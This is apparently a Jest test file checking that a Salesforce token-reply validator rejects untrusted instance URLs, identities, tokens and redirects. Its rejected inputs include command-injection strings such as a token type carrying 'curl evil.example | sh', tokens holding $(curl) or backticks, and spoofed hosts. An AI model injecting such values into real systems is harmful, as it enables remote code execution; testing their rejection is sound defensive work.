import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { loginUrl } from '../../src/assertion/login-url.ts';
import { judgeTokenReply } from '../../src/token/response.ts';

const url = loginUrl('https://acme.my.salesforce.com');
const orgId = '00D5f000000AbCdEAK';
const good = {
  access_token: `${orgId.slice(0, 15)}!AQEAQ.madeUpForTests`,
  scope: 'api web api',
  instance_url: 'https://acme.my.salesforce.com',
  id: `https://login.salesforce.com/id/${orgId}/0055f000000AbCdAAK`,
  token_type: 'Bearer',
  issued_at: '1795176000000',
};
const reply = (members: object, status = 200) => ({ status, headers: {}, body: JSON.stringify(members) });
const judge = (members: object, at = url) => judgeTokenReply(reply({ ...good, ...members }), at);
const sentence = (members: object, at = url) => {
  const judgement = judge(members, at);
  if (judgement.kind !== 'refused') throw new Error(`judged ${judgement.kind}`);
  expect(judgement.failure.code).toBe('ERR_REPLY_UNTRUSTED');
  return judgement.failure.message;
};

describe('the reply of the token endpoint', () => {
  it('becomes a session when all of it holds together', () => {
    const judgement = judge({});
    expect(judgement).toMatchObject({
      kind: 'accepted',
      session: {
        orgId,
        userId: '0055f000000AbCdAAK',
        orgKind: 'production',
        tokenFormat: 'opaque',
        scopes: ['api', 'web'],
        instanceUrl: 'https://acme.my.salesforce.com',
      },
    });
    expect(judgement.kind === 'accepted' && judgement.session.issuedAt?.toISOString()).toBe('2026-11-20T12:00:00.000Z');
    expect(JSON.stringify(judgement)).not.toContain('madeUpForTests');
  });

  it('may name another host of Salesforce as the instance', () => {
    expect(judge({ instance_url: 'https://acme.my.salesforce.com/' }).kind).toBe('accepted');
    expect(judge({ instance_url: 'https://na139.salesforce.com' }).kind).toBe('accepted');
  });

  it.each([
    'https://evil.example',
    'http://acme.my.salesforce.com',
    'https://acme.my.salesforce.com:8443',
    'https://user@acme.my.salesforce.com',
    'https://acme.my.salesforce.com/path',
    'https://acme.my.salesforce.com?x=1',
    'https://acme.my.salesforce.com.evil.example',
    'javascript:alert(1)',
    'nonsense',
    '',
  ])('is not believed with the instance_url "%s"', (instance_url) => {
    expect(sentence({ instance_url })).toContain('instance_url');
  });

  it.each([
    'https://evil.example/id/00D5f000000AbCdEAK/0055f000000AbCdAAK',
    'https://login.salesforce.com/id/00D5f000000AbCdEAK',
    'https://login.salesforce.com/id/0015f000000AbCdEAK/0055f000000AbCdAAK',
    'http://login.salesforce.com/id/00D5f000000AbCdEAK/0055f000000AbCdAAK',
    '',
  ])('is not believed with the id "%s"', (id) => {
    expect(sentence({ id })).toContain('`id`');
  });

  it('is not believed when the token is of another org than the identity', () => {
    expect(sentence({ access_token: '00D5f000000ZZZZ!AQEAQ.madeUpForTests' })).toContain('another org');
  });

  it.each(['madeUpForTests', '00D!madeUpForTests', 'not.a.jwtOfTests'])(
    'is not believed with the token %s, which names no org',
    (access_token) => {
      expect(sentence({ access_token })).toContain('names no org');
    },
  );

  it.each([
    ['x', 'short'],
    [`${orgId}!with space`, 'space'],
    [`${orgId}!line\nbreak`, 'line break'],
    [`${orgId}!$(curl)`, 'shell'],
    [`${orgId}!\`curl\``, 'backticks'],
    [`${orgId}!";id;"`, 'quotes'],
    [`${orgId}!{{x}}`, 'template'],
  ])('is not believed with a token that is none (%#)', (access_token) => {
    expect(sentence({ access_token })).toContain('access token');
  });

  it.each(['mac', 'Bearer"; curl evil.example | sh', 'Bearer\nx=y', 'Bearer '])(
    'is not believed with the token type %j',
    (token_type) => {
      expect(sentence({ token_type })).toContain('no bearer token');
    },
  );

  it.each(['Bearer', 'bearer', undefined])('has one name for the token type %j', (token_type) => {
    expect(judge({ token_type })).toMatchObject({ kind: 'accepted', session: { tokenType: 'Bearer' } });
  });

  it.each([
    ['1795176000000', 1_795_176_000_000],
    [1_795_176_000_000, 1_795_176_000_000],
    ['soon', undefined],
    [-1, undefined],
    [1e300, undefined],
    [null, undefined],
  ])('was issued at %j', (issued_at, time) => {
    const judgement = judge({ issued_at });
    expect(judgement.kind === 'accepted' && judgement.session.issuedAt?.getTime()).toBe(time);
  });

  it.each([
    ['https://test.salesforce.com', 'https://acme--uat.sandbox.my.salesforce.com', 'sandbox'],
    ['https://test.salesforce.com', 'https://acme.my.salesforce.com', 'sandbox'],
    ['https://test.salesforce.com', 'https://x.scratch.my.salesforce.com', 'scratch'],
    ['https://login.salesforce.com', 'https://acme.my.salesforce.com', 'production'],
    ['https://acme--uat.sandbox.my.salesforce.com', 'https://acme--uat.sandbox.my.salesforce.com', 'sandbox'],
  ])('tells the kind of org by the identity on %s at %s: %s', (identity, instance_url, kind) => {
    const judgement = judge({ id: `${identity}/id/${orgId}/0055f000000AbCdAAK`, instance_url });
    expect(judgement).toMatchObject({ kind: 'accepted', session: { orgKind: kind } });
  });

  it('says nothing of when it was issued when that is an object, even one that cannot become a number', () => {
    for (const issued_at of [{ toString: null, valueOf: null }, ['1795176000000'], true, null]) {
      expect(judge({ issued_at })).toMatchObject({ kind: 'accepted', session: { issuedAt: undefined } });
    }
  });

  it('reads a JWT-format token with its end', () => {
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const access_token = `${part({ alg: 'RS256' })}.${part({ exp: 1795176900 })}.c2lnbmF0dXJl`;
    expect(judge({ access_token })).toMatchObject({
      kind: 'accepted',
      session: { tokenFormat: 'jwt', expiresAt: new Date(1795176900000) },
    });
  });

  it.each([
    [200, '<html><body>Data Not Available</body></html>', 'a page of HTML'],
    [200, '', 'an empty body'],
    [200, '[]', 'JSON belongs'],
    [200, '{"access_token":7}', 'no access token'],
    [200, '{"access_token":', 'JSON belongs'],
    [503, 'Service Unavailable', '503'],
    [500, '{"error":"invalid_grant","error_description":"invalid assertion"}', '500'],
    [429, '', '429'],
    [400, '<!DOCTYPE html>', 'HTML'],
    [400, '{"error":"unknown_error","error_description":"retry your request"}', 'retry your request'],
  ])('is an outage: %i %s', (status, body, seen) => {
    const judgement = judgeTokenReply({ status, headers: {}, body }, url);
    expect(judgement.kind).toBe('unavailable');
    expect(judgement.kind === 'unavailable' && judgement.seen).toContain(seen);
  });

  it('names where a redirect points and does not go there', () => {
    const judgement = judgeTokenReply(
      { status: 302, headers: { location: 'https://cs12.salesforce.com/x?assertion=1' }, body: '' },
      url,
    );
    expect(judgement.kind === 'refused' && judgement.failure.code).toBe('ERR_TOKEN_REDIRECT');
    expect(judgement.kind === 'refused' && judgement.failure.message).toContain('https://cs12.salesforce.com.');
  });

  it.each(['javascript:alert(1)', 'data:text/html,x', 'https://', 'mailto:a@b.example'])(
    'says that a redirect to %s points to no host',
    (location) => {
      const judgement = judgeTokenReply({ status: 302, headers: { location }, body: '' }, url);
      expect(judgement.kind === 'refused' && judgement.failure.message).toContain('points to something that is no');
    },
  );

  it('does not wait for a login rate that lasts an hour', () => {
    const judgement = judgeTokenReply(
      reply({ error: 'rate_limit_exceeded', error_description: 'login rate exceeded' }, 429),
      url,
    );
    expect(judgement).toMatchObject({ kind: 'rejected', rejection: { code: 'ERR_TOKEN_LOGIN_RATE' } });
  });

  it('never crashes, whatever comes', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 100, max: 599 }),
        fc.oneof(
          fc.string(),
          fc.json(),
          fc.object().map((o) => JSON.stringify({ ...good, ...o })),
        ),
        (status, body) => {
          expect(['accepted', 'rejected', 'unavailable', 'refused']).toContain(
            judgeTokenReply({ status, headers: {}, body }, url).kind,
          );
        },
      ),
      { numRuns: 1000 },
    );
  });
});
